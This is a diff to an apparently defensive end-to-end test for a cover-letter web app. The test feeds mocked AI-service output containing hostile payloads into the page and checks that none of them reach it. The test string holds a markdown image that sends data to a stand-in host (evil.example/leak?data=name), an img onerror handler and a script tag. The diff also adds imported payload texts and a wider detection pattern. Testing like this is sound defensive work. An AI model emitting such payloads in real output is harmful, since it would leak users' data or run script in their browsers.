@@ -3,6 +3,7 @@ import { startingBalance } from '#contract/tokens.ts'
 import { expectSent, letterFor, readPreview, test } from './support/ai.ts'
 import { still } from './support/inspect.ts'
 import { expect } from './support/journey.ts'
+import { texts } from './support/payloads.ts'
 import { newPerson, register } from './support/people.ts'
 
 const ready = (page: Page) => page.getByRole('heading', { name: 'Your Cover Letter is Ready!' })
@@ -41,8 +42,8 @@ async function openLetter(page: Page): Promise<Locator> {
 }
 
 async function expectHarmless(page: Page): Promise<void> {
-  expect(await page.content()).not.toMatch(/evil\.example|__xss/)
-  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
+  expect(await page.content()).not.toMatch(/evil\.example|__xss|broken=/)
+  expect(await page.evaluate(() => '__xss' in window || 'broken' in window)).toBe(false)
 }
 
 test.beforeEach(({ service }) => {
@@ -109,7 +110,8 @@ test('what she is shown is what is sent, and what is not true of her comes back 
 test('words of the service that would run or load something never reach the page', async ({ visit, service }) => {
   const { page, spent } = await visit()
   const words =
-    'I like it. ![cat](https://evil.example/leak?data=name) <img src="https://evil.example/x.png" onerror="window.__xss = 1"><script>window.__xss = 1</script>'
+    'I like it. ![cat](https://evil.example/leak?data=name) <img src="https://evil.example/x.png" onerror="window.__xss = 1"><script>window.__xss = 1</script>' +
+    texts.join(' ')
   service.answerWith(letterFor(/baked bread/, () => [{ text: words, facts: [] }]))
   await askForLetter(page)
   await expect(ready(page)).toBeVisible()
